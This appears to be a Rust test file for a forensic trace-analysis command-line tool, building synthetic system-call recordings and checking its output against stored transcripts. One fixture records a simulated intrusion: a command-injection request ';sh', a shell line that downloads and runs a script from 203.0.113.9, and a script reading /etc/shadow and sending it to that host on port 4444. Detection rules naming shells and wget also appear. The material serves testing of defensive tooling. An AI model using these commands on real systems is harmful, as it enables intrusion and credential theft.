//! What the commands print, as transcripts: `tests/transcripts/*.txt` hold command lines, what they write, and their
//! exit status. `AFTERIMAGE_BLESS=1 cargo test -p afterimage-analyze` writes them anew, to be read before they are
//! believed.

#[path = "../../query/tests/incident/mod.rs"]
mod incident;

use afterimage_format::model::Value::{Bytes, Int};
use incident::{READ, Recorded, Recorder, WRITE};
use std::fmt::Write as _;
use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;

/// The traces that the transcripts name, in a folder of their own.
fn folder() -> tempfile::TempDir {
    let folder = tempfile::tempdir().expect("a folder");
    let put = |name: &str, recorded: Recorded| {
        fs::copy(&recorded.path, folder.path().join(name)).expect("room on the disk");
    };
    put("incident.scap", incident());
    put("lossy.scap", lossy());
    put("crashed.scap", crashed());
    put("terminal.scap", terminal());
    let whole = fs::read(folder.path().join("incident.scap")).expect("the trace");
    fs::write(folder.path().join("truncated.scap"), &whole[..whole.len() / 2]).expect("room on the disk");
    fs::write(folder.path().join("empty.scap"), b"").expect("room on the disk");
    fs::write(folder.path().join("sysdig.scap"), b"\x0a\x0d\x0d\x0a0000").expect("room on the disk");
    fs::write(folder.path().join("newer.scap"), b"\x89AFTERIMG\r\n\x1a\xff\0\0\0rest").expect("room on the disk");
    fs::write(
        folder.path().join("rules.yaml"),
        "- list: programs\n  items: [httpd, sh]\n- macro: fetching\n  condition: evt.type = execve\n- macro: broken\n  \
         condition: proc.nam = 1\n",
    )
    .expect("room on the disk");
    fs::write(
        folder.path().join("detect.yaml"),
        "- list: shells\n  items: [sh, bash]\n- macro: spawned\n  condition: evt.type = execve\n\
         - rule: Shell\n  condition: spawned and proc.name in (shells)\n  tags: [shell]\n\
         - rule: \"Outgoing \\e[1m\"\n  condition: evt.type = connect\n  exceptions:\n  \
         - {name: known, fields: proc.name, values: [wget]}\n\
         - rule: Any program\n  condition: spawned\n  enabled: false\n\
         - rule: Cloud\n  condition: ct.name = x\n  source: aws_cloudtrail\n- rule: Slip\n  condition: proc.nmae = x\n",
    )
    .expect("room on the disk");
    fs::create_dir(folder.path().join("directory")).expect("a folder");
    fs::copy(folder.path().join("incident.scap"), folder.path().join("info")).expect("room on the disk");
    folder
}

/// A web server is made to fetch and run a program, which sends a file away.
fn incident() -> Recorded {
    let mut r = Recorder::new();
    r.container(5, "web")
        .attach(1001, "runc:[2:INIT]", 5)
        .at(1)
        .open(1001, 3, "/x", READ);
    r.at(2)
        .exec(1001, "/bin/httpd", &["httpd", "-f"])
        .listen(1001, 3, "0.0.0.0:80");
    r.at(100)
        .accept(1001, 4, "10.0.0.5:80", "203.0.113.9:50000")
        .fork(1001, 1002);
    r.at(101).read(1002, 4, "GET /cgi?x=;sh HTTP/1.0\r\n").fork(1002, 1003);
    r.at(102)
        .exec(1003, "/bin/sh", &["sh", "-c", "wget http://203.0.113.9/s; ./s; rm s"]);
    r.at(110)
        .fork(1003, 1004)
        .at(111)
        .exec(1004, "/bin/wget", &["wget", "http://203.0.113.9/s"]);
    r.at(112)
        .connect(1004, 3, "10.0.0.5:40000", "203.0.113.9:80")
        .write(1004, 3, "GET /s HTTP/1.1\r\n");
    r.at(113)
        .read(1004, 3, "#!/bin/sh\nnc")
        .at(114)
        .open(1004, 4, "/tmp/s", WRITE)
        .write(1004, 4, "#!/bin/sh\nnc");
    r.at(115)
        .exit(1004, 0)
        .at(120)
        .call(1003, "chmod", 0, &[Int(0), Bytes(b"/tmp/s"), Int(0o755)])
        .segment();
    r.at(130).fork(1003, 1005).exec(1005, "/tmp/s", &["/bin/sh", "/tmp/s"]);
    r.at(131)
        .open(1005, 3, "/etc/shadow", READ)
        .read(1005, 3, "root:*:\x1b[2J");
    r.at(132)
        .connect(1005, 4, "10.0.0.5:40001", "203.0.113.9:4444")
        .write(1005, 4, "root:*:\x1b[2J");
    r.at(140)
        .exit(1005, 0)
        .at(150)
        .call(1003, "unlink", 0, &[Int(0), Bytes(b"/tmp/s")]);
    r.at(160)
        .exit(1003, 0)
        .at(161)
        .exit(1002, 0)
        .at(200)
        .exit(1001, 9)
        .at(210)
        .container_removed(5);
    r.seal()
}

/// Somebody sits at a terminal of a container.
fn terminal() -> Recorded {
    let mut r = Recorder::new();
    r.container(5, "web").at(1).attach(1001, "runc:[2:INIT]", 5);
    r.at(2).open(1001, 0, "/dev/pts/0", 2).dup(1001, 0, 1);
    r.at(3).exec(1001, "/bin/sh", &["sh"]).write(1001, 1, "$ ");
    r.at(1500).read(1001, 0, "id\n").fork(1001, 1002);
    r.at(1501)
        .exec(1002, "/bin/id", &["id"])
        .write(1002, 1, "uid=0\n")
        .exit(1002, 0);
    r.seal()
}

fn lossy() -> Recorded {
    let mut r = Recorder::new();
    r.container(5, "web").attach(1001, "httpd", 5).lost(7, 10, 20);
    r.at(30).open(1001, 3, "/srv/a", READ);
    r.seal()
}

fn crashed() -> Recorded {
    let mut r = Recorder::new();
    r.container(5, "web")
        .attach(1001, "httpd", 5)
        .at(30)
        .open(1001, 3, "/srv/a", READ);
    r.crash()
}

/// Runs a command line of a transcript and returns what it wrote, errors marked with `2> `.
fn run(folder: &Path, line: &str) -> String {
    let words = words(line);
    let (program, arguments) = words.split_first().expect("a command");
    assert_eq!(program, "analyze", "transcripts run nothing else");
    let done = Command::new(env!("CARGO_BIN_EXE_analyze"))
        .args(arguments)
        .current_dir(folder)
        .env("TZ", "UTC")
        .env("COLUMNS", "100")
        .output()
        .expect("analyze runs");
    let mut out = String::new();
    let (stdout, stderr) = (
        String::from_utf8_lossy(&done.stdout),
        String::from_utf8_lossy(&done.stderr),
    );
    stdout
        .lines()
        .for_each(|line| out.push_str(&format!("{}\n", steady(line))));
    stderr
        .lines()
        .for_each(|line| out.push_str(&format!("2> {}\n", steady(line))));
    let _ = writeln!(out, "=> {}", done.status.code().expect("no signal ended it"));
    out
}

/// Sizes of compressed data, places in it and hashes of it are no part of what is tested here.
fn steady(line: &str) -> String {
    if line.starts_with("size  ") {
        return "size        (left out)".to_string();
    }
    let without = |line: &str, name: &str, put: &str, is_part: fn(char) -> bool| match line.split_once(name) {
        Some((before, after)) => format!("{before}{name}{put}{}", after.trim_start_matches(is_part)),
        None => line.to_string(),
    };
    if let Some((before, size)) = line.split_once(" events in ")
        && size.ends_with(" bytes")
    {
        return format!("{before} events in N bytes");
    }
    let line = without(line, "damaged at byte ", "N", |c| c.is_ascii_digit());
    if !line.contains("\"format_version\"") {
        return line;
    }
    let line = without(&line, "\"bytes\":", "0", |c| c.is_ascii_digit());
    without(&line, "\"root\":\"", "", |c| c.is_ascii_hexdigit())
}

/// Words of a command line, with single quotes as in a shell.
fn words(line: &str) -> Vec<String> {
    let mut words = vec![String::new()];
    let mut quoted = false;
    for c in line.chars() {
        match c {
            '\'' => quoted = !quoted,
            ' ' if !quoted => words.push(String::new()),
            c => words.last_mut().expect("there is one").push(c),
        }
    }
    words
}

fn transcripts() -> Vec<PathBuf> {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/transcripts");
    let mut all: Vec<PathBuf> = fs::read_dir(folder)
        .expect("the folder")
        .map(|entry| entry.expect("an entry").path())
        .collect();
    all.sort();
    all
}

#[test]
fn commands_write_what_their_transcripts_say() {
    let folder = folder();
    let bless = std::env::var_os("AFTERIMAGE_BLESS").is_some();
    let all = transcripts();
    assert!(all.len() >= 7, "transcripts are missing");
    for path in all {
        let expected = fs::read_to_string(&path).expect("a transcript");
        let mut written = String::new();
        for line in expected
            .lines()
            .filter(|line| line.starts_with("$ ") || line.starts_with("# "))
        {
            let _ = writeln!(written, "{line}");
            if let Some(command) = line.strip_prefix("$ ") {
                written.push_str(&run(folder.path(), command));
                written.push('\n');
            }
        }
        if bless {
            fs::write(&path, written).expect("room on the disk");
        } else {
            let name = path.file_name().map(|name| name.to_string_lossy().into_owned());
            assert!(written == expected, "{name:?} differs; it is now:\n{written}");
        }
    }
}

#[test]
fn a_closed_pipe_ends_quietly() {
    let folder = folder();
    for arguments in [
        &["query", "incident.scap"][..],
        &["timeline", "incident.scap"],
        &["fields"],
        &["ps", "incident.scap"],
        &["files", "incident.scap", "--at", "-68ms"],
    ] {
        let (reader, writer) = std::io::pipe().expect("a pipe");
        drop(reader);
        let done = Command::new(env!("CARGO_BIN_EXE_analyze"))
            .args(arguments)
            .current_dir(folder.path())
            .stdout(writer)
            .output()
            .expect("analyze runs");
        assert_eq!(done.status.code(), Some(0), "{arguments:?}");
        assert!(done.stderr.is_empty(), "{}", String::from_utf8_lossy(&done.stderr));
    }
}

#[test]
fn every_json_line_is_an_object() {
    let folder = folder();
    for arguments in [
        &["info", "incident.scap", "--json"][..],
        &["timeline", "incident.scap", "--json", "--all"],
        &["query", "incident.scap", "--json"],
        &["ps", "incident.scap", "--json", "--at", "10:00:00.130"],
        &["files", "incident.scap", "--json", "--at", "10:00:00.132"],
        &["connections", "incident.scap", "--json", "--at", "10:00:00.132"],
        &["containers", "incident.scap", "--json"],
        &["fields", "--json"],
        &["query", "incident.scap", "--by", "proc.name", "--every", "1s", "--json"],
        &["top", "incident.scap", "files", "--json"],
        &["commands", "incident.scap", "--json"],
        &["follow", "incident.scap", "203.0.113.9:80", "--json"],
        &["why", "incident.scap", "24", "--json"],
        &["sessions", "terminal.scap", "--json"],
    ] {
        let done = Command::new(env!("CARGO_BIN_EXE_analyze"))
            .args(arguments)
            .current_dir(folder.path())
            .env("TZ", "UTC")
            .output()
            .expect("analyze runs");
        let out = String::from_utf8(done.stdout).expect("UTF-8");
        assert!(!out.is_empty(), "{arguments:?}");
        for line in out.lines() {
            let value: serde_json::Value = serde_json::from_str(line).expect("JSON");
            assert!(value.is_object(), "{line}");
        }
    }
}
